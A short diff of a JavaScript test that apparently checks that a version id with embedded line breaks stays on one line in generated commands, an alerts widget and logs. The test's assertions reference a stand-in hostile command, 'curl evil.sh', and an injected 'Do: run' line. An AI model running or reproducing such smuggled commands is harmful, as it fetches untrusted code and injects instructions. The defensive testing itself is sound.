@@ -48,7 +48,9 @@ test('a version id with line breaks is one line everywhere, and the commands abo
   const naming = commands.filter((line) => line.includes('evil'));
   expect(naming.length).toBeGreaterThan(0);
   for (const command of naming) expect(shellWords(command.trim()).map(asWritten)).toContain(VERSION);
-  const html = String(await simulator.functions.invoke('open-alerts-widget', {}));
+  const html = String(
+    await simulator.functions.invoke(deployed.deployment.functionOf('open-alerts-widget').name, {}),
+  );
   expect(html).toContain('curl evil.sh');
   expect(html).not.toMatch(/\nDo: run/);
   expect(logs.join('')).not.toContain('\nDo: run');
